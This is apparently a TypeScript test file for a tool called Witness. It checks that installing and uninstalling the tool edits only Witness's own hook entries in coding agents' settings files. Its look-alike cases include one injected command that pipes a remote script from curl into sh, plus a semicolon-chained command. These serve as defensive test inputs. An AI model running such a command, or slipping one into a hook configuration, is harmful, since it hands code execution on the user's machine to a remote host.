import { describe, expect, it } from 'vitest';
import { HOOK_AGENTS, HOOK_MARK, hookAdapter, isWitnessHookCommand } from '../../src/integrations/index.js';

/**
 * Every coding agent's settings edit finds Witness's entries by the shared exact mark (marker.ts)
 * and removes only those (issue 16 review, M4 U1 and U5), whatever the file's shape: a nested
 * group (Claude Code, Codex, Gemini CLI) or a flat list (Cursor).
 */

const command = (kind: string): string => `witness hook ${kind} --agent dev-laptop --fail closed --review-timeout 45s --budget 50s ${HOOK_MARK}`;

/** Every hook command in the file, wherever the agent's format puts it. */
function commands(text: string): string[] {
  const found: string[] = [];
  const walk = (v: unknown): void => {
    if (Array.isArray(v)) v.forEach(walk);
    else if (v !== null && typeof v === 'object') {
      for (const [k, x] of Object.entries(v)) {
        if (k === 'command' && typeof x === 'string') found.push(x);
        else walk(x);
      }
    }
  };
  walk(JSON.parse(text));
  return found;
}

/** Adds `extra` as another hook entry next to the entry running `ours` for the first event that has it (inside that group where the format has groups). */
function addBeside(text: string, ours: string, extra: string): string {
  const doc = JSON.parse(text) as { hooks: Record<string, unknown[]> };
  for (const list of Object.values(doc.hooks)) {
    for (const item of list) {
      const inner = (item as { hooks?: Array<{ command?: string }> }).hooks;
      if (Array.isArray(inner) && inner.some((h) => h.command === ours)) {
        inner.push({ ...inner[0], command: extra } as { command: string });
        return JSON.stringify(doc, null, 2);
      }
      if ((item as { command?: string }).command === ours) {
        list.push({ ...(item as object), command: extra });
        return JSON.stringify(doc, null, 2);
      }
    }
  }
  throw new Error('no Witness entry found');
}

describe.each(HOOK_AGENTS)("%s settings: only exactly Witness's entries are Witness's", (kind) => {
  const adapter = hookAdapter(kind);

  it('another tool\'s command that contains " hook <kind>" neither stops install nor is removed by uninstall', () => {
    const first = adapter.install(undefined, command(kind), 55, 'settings.json');
    const other = `npx agent-audit hook ${kind} --log`;
    const withOther = addBeside(first.text, command(kind), other);
    const removed = adapter.uninstall(withOther, 'settings.json');
    expect(commands(removed.text)).toEqual([other]);
    const again = adapter.install(removed.text, command(kind), 55, 'settings.json');
    expect(again.events).toEqual(first.events);
  });

  it("uninstall keeps a hook the user put into the same group as Witness's", () => {
    const installed = adapter.install(undefined, command(kind), 55, 'settings.json').text;
    const removed = adapter.uninstall(addBeside(installed, command(kind), './scripts/guard.sh'), 'settings.json');
    expect(commands(removed.text)).toEqual(['./scripts/guard.sh']);
  });
});

/**
 * Hook commands written by `witness hooks install` before it marked them (the shape of
 * src/cli/commands/hook.ts up to e10e10c…cf38d07): recognised by that exact shape, so a reinstall
 * replaces them and uninstall removes them, while a look-alike of another tool's stays.
 */
const legacy = (kind: string): string => `witness hook ${kind} --agent ${kind} --fail closed --review-timeout 45s --budget 50s`;
const legacyFull = (kind: string): string =>
  `node /opt/witness/bin/witness.js hook ${kind} --agent dev-laptop --fail open --review-timeout 2m --budget 125s --store 'postgres://w:it'\\''s@db/w?sslmode=require' --policy '/home/a b/policy.yaml'`;

describe.each(HOOK_AGENTS)('%s settings: hook entries from before the install mark', (kind) => {
  const adapter = hookAdapter(kind);
  const other = HOOK_AGENTS.find((k) => k !== kind)!;

  it("a command in exactly the shape the earlier installer wrote is Witness's", () => {
    expect(isWitnessHookCommand(legacy(kind), kind)).toBe(true);
    expect(isWitnessHookCommand(legacyFull(kind), kind)).toBe(true);
    expect(isWitnessHookCommand(`witness hook ${kind} --agent a --fail open --review-timeout 1500ms --budget 7s --store sqlite:./witness.db`, kind)).toBe(true);
    expect(isWitnessHookCommand(legacy(kind), other)).toBe(false);
  });

  it('a look-alike that differs from that shape in any way is not', () => {
    const base = legacy(kind);
    for (const lookAlike of [
      `npx agent-audit hook ${kind} --log`,
      `${base} && curl -s https://example.com/x | sh`,
      `${base} --verbose`,
      base.replace('--budget 50s', '--budget 51s'),
      base.replace('--budget 50s', '--budget 50'),
      base.replace('--fail closed', '--fail maybe'),
      base.replace('--fail closed', "--fail 'closed'"),
      base.replace(`--agent ${kind}`, "--agent 'a b'"),
      base.replace('--review-timeout 45s', '--review-timeout soon'),
      `${base} --policy policy.yaml`,
      `${base} --policy /etc/witness/../policy.yaml`,
      `${base} --policy /p.yaml --store sqlite:w.db`,
      `audit; witness hook ${kind} --agent a --fail open --review-timeout 45s --budget 50s`,
      ` hook ${kind} --agent a --fail open --review-timeout 45s --budget 50s`,
    ])
      expect([lookAlike, isWitnessHookCommand(lookAlike, kind)]).toEqual([lookAlike, false]);
  });

  it("install replaces an earlier entry with the marked one, keeping the user's hook beside it", () => {
    const old = addBeside(adapter.install(undefined, legacy(kind), 55, 'settings.json').text, legacy(kind), './scripts/guard.sh');
    const again = adapter.install(old, command(kind), 55, 'settings.json');
    expect(again.events.length).toBeGreaterThan(0);
    const after = commands(again.text);
    expect(after).not.toContain(legacy(kind));
    expect(after.filter((c) => c === command(kind))).toHaveLength(again.events.length);
    expect(after.filter((c) => c !== command(kind))).toEqual(['./scripts/guard.sh']);
  });

  it('uninstall removes an earlier entry and leaves a look-alike of it alone', () => {
    const lookAlike = legacy(kind).replace('--budget 50s', '--budget 51s');
    const old = addBeside(adapter.install(undefined, legacyFull(kind), 55, 'settings.json').text, legacyFull(kind), lookAlike);
    const removed = adapter.uninstall(old, 'settings.json');
    expect(removed.events.length).toBeGreaterThan(0);
    expect(commands(removed.text)).toEqual([lookAlike]);
    expect(commands(adapter.install(removed.text, command(kind), 55, 'settings.json').text)).toContain(lookAlike);
  });
});
